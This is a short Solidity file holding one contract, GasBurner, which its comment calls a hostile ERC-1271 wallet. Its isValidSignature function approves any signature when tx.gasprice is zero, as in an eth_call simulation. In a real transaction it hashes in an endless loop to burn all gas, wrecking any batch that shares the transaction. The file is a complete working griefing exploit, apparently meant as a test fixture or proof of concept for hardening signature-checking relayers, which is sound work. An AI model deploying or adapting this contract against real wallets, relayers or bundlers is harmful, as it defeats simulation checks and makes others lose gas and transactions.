// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

/// A hostile ERC-1271 wallet: says yes to any signature when tx.gasprice is 0 (what an eth_call
/// sees) and, in a real transaction, hashes in a loop until it runs out of gas, taking with it
/// the gas of whatever batch it shares a transaction with.
contract GasBurner {
    function isValidSignature(bytes32 hash, bytes calldata) external view returns (bytes4) {
        if (tx.gasprice == 0) return 0x1626ba7e;
        uint256 x = uint256(hash);
        while (gasleft() > 0) x = uint256(keccak256(abi.encode(x)));
        return bytes4(uint32(x));
    }
}
